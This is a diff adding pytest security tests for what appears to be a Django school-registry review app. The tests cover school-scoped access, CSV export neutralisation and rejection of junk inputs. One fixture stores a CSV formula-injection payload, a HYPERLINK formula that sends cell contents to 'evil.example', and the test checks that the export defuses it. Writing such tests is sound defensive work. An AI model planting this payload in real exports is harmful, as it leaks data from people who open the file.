@@ -325,3 +325,80 @@ def test_change_withdraw_get_and_outsiders(
         client.post(url)
     termination.refresh_from_db()
     assert termination.status in Termination.OPEN
+
+
+# --- snapshots, statistics as of, exports as of ---------------------------------------------
+
+LEAK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
+
+
+@pytest.fixture
+def snapshot_a(world):
+    from datetime import timedelta
+
+    from reviews.services import snapshot_take
+    from students.models import current_graduation_year
+
+    a1 = f.make_record(world.major_a1, name=LEAK)
+    a2 = f.make_record(world.major_a2, name="甲二学院秘密生")
+    f.make_record(world.major_b1, name="乙校生")
+    snapshot = snapshot_take(
+        school=world.school_a,
+        year=current_graduation_year(),
+        cutoff=timezone.localdate() - timedelta(days=1),
+    )
+    from students.models import RegistryRecord
+
+    for record in (a1, a2):
+        RegistryRecord.objects.filter(pk=record.pk).update(
+            destination=f.code("destination", "10")
+        )
+    return snapshot
+
+
+def test_snapshot_changes_are_scoped_and_csv_is_neutralised(
+    client, snapshot_a, college_reviewer, other_school_reviewer, platform_admin, student
+):
+    page = reverse("reviews:snapshot_changes", args=[snapshot_a.pk])
+    csv_url = reverse("reviews:snapshot_changes_csv", args=[snapshot_a.pk])
+    client.force_login(college_reviewer)
+    html = client.get(page).content.decode()
+    body = client.get(csv_url).content.decode("utf-8-sig")
+    assert "甲二学院秘密生" not in html and "甲二学院秘密生" not in body
+    assert "'" + LEAK.replace('"', '""') in body or "'=HYPERLINK" in body
+    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body
+    for outsider in (other_school_reviewer, platform_admin, student.user):
+        client.force_login(outsider)
+        assert client.get(page).status_code in (403, 404), outsider
+        assert client.get(csv_url).status_code in (403, 404), outsider
+
+
+@pytest.mark.parametrize("value", ["²", "9" * 40, "-1", "0", "1e3", "\u0661", " 1", "1\x00"])
+def test_statistics_as_of_junk_is_not_a_500(client, snapshot_a, school_reviewer, value):
+    client.force_login(school_reviewer)
+    response = client.get(reverse("reviews:statistics"), {"as_of": value})
+    assert response.status_code in (200, 400, 404)
+
+
+def test_statistics_and_export_as_of_another_schools_snapshot(
+    client, snapshot_a, other_school_reviewer
+):
+    from reviews.models import ExportJob
+
+    client.force_login(other_school_reviewer)
+    assert (
+        client.get(reverse("reviews:statistics"), {"as_of": snapshot_a.pk}).status_code == 404
+    )
+    response = client.post(reverse("reviews:export_start"), {"fmt": "csv", "as_of": snapshot_a.pk})
+    assert response.status_code == 404
+    assert not ExportJob.objects.exists()
+
+
+def test_reporting_dates_junk(client, world, school_reviewer, college_reviewer):
+    url = reverse("reviews:reporting_dates")
+    client.force_login(college_reviewer)
+    assert client.get(url).status_code == 403
+    client.force_login(school_reviewer)
+    for value in ("9999-99-99", "0001-01-01", "9999-12-31", "2026-02-30", "\x00", "1" * 5000):
+        response = client.post(url, {"date_0": value, "date_1": "", "date_2": ""})
+        assert response.status_code in (302, 400), value
